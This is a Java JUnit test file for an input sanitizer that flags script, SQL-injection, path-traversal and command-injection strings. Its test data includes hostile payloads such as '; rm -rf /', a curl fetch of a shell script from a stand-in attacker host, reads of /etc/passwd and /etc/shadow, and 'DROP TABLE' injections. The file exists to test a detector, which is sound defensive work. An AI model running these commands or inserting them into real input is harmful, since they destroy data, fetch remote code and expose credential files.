package io.github.hardening.sanitize;

import java.util.SplittableRandom;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

class SuspiciousInputDetectorTests {

	private final SuspiciousInputDetector detector = new SuspiciousInputDetector();

	@ParameterizedTest
	@CsvSource(delimiter = '|', value = { "<script>alert(1)</script>|SCRIPT", "<SCRIPT SRC=//x>|SCRIPT",
			"<img src=x onerror=alert(1)>|SCRIPT", "javascript:alert(1)|SCRIPT", "<svg/onload=alert(1)>|SCRIPT",
			"<iframe src=x>|SCRIPT", "' OR '1'='1|SQL", "admin' --|SQL", "1' or 1=1 --|SQL",
			"1 UNION SELECT password FROM users|SQL", "x'; DROP TABLE users; --|SQL", "1 AND SLEEP(5)|SQL",
			"../../etc/passwd|PATH_TRAVERSAL", "..\\..\\windows\\system32|PATH_TRAVERSAL",
			"%2e%2e%2fetc%2fpasswd|PATH_TRAVERSAL", "..%2F..%2Fsecret|PATH_TRAVERSAL", "/etc/shadow|PATH_TRAVERSAL",
			"; rm -rf /|COMMAND", "x && cat notes.txt|COMMAND", "$(whoami)|COMMAND", "`id`|COMMAND",
			"&& curl http://evil.example/x.sh|COMMAND", "x; wget evil.example|COMMAND" })
	void attackSignaturesAreRecognised(String input, SuspiciousKind kind) {
		assertThat(this.detector.detect(input)).isEqualTo(kind);
	}

	@ParameterizedTest
	@ValueSource(strings = { "O'Brien", "Select a course", "1 or 1=1 is true in maths", "Rock 'n' roll", "5 > 3 < 7",
			"100% sure", "path/to/file.txt", "https://example.com/a?b=c&d=e", "v1.2.3", "Tom & Jerry",
			"price: $5 (incl. tax)", "I need sleep (5 hours)", "Union Square, New York", "e-mail: a@b.example",
			"it's -- as they say -- fine", "café; crème", "C:\\Users\\ann", "", "plain words only" })
	void ordinaryTextIsNotFlagged(String input) {
		assertThat(this.detector.detect(input)).isNull();
	}

	@ParameterizedTest
	@ValueSource(strings = { "<p>Hello <b>there</b></p>", "<ul><li>one</li></ul>", "a < b: c" })
	void plainMarkupIsDismissedWithoutRunningTheScriptSignature(String input) {
		assertThat(SuspiciousInputDetector.possibleKinds(input) & SuspiciousInputDetector.SCRIPT_BIT).isZero();
		assertThat(this.detector.detect(input)).isNull();
	}

	@Test
	void preScanNeverHidesWhatTheSignaturesFind() {
		// Random strings over the characters and words the signatures look for: the detector with its pre-scan
		// must answer exactly what running every signature in order answers.
		String[] pieces = { "<", ">", "/", "=", ":", " ", "\t", "on", "ON", "x", "script", "ScRiPt", "sCRIPT", "java",
				"vb", "iframe", "IFRAME", "OBJECT", "Object", "embed", "eMbEd", "svg", "Svg", "img", "'", ";", "--", "or",
				"1", "union", "select", "..", "%2e", "%2f", "/etc/passwd", "$(", ")", "`", "|", "&", "rm", "sleep(",
				"\u017f", "K" };
		SplittableRandom random = new SplittableRandom(42);
		int flagged = 0;
		for (int n = 0; n < 200_000; n++) {
			StringBuilder value = new StringBuilder();
			int count = random.nextInt(1, 9);
			for (int i = 0; i < count; i++) {
				value.append(pieces[random.nextInt(pieces.length)]);
			}
			String input = value.toString();
			SuspiciousKind expected = everySignature(input);
			assertThat(this.detector.detect(input)).as(input).isEqualTo(expected);
			flagged += (expected != null) ? 1 : 0;
		}
		assertThat(flagged).as("the generator reaches the signatures").isGreaterThan(10_000);
	}

	private static SuspiciousKind everySignature(String value) {
		if (SuspiciousInputDetector.SCRIPT.matcher(value).find()) {
			return SuspiciousKind.SCRIPT;
		}
		if (SuspiciousInputDetector.PATH_TRAVERSAL.matcher(value).find()) {
			return SuspiciousKind.PATH_TRAVERSAL;
		}
		if (SuspiciousInputDetector.SQL.matcher(value).find()) {
			return SuspiciousKind.SQL;
		}
		return SuspiciousInputDetector.COMMAND.matcher(value).find() ? SuspiciousKind.COMMAND : null;
	}

}
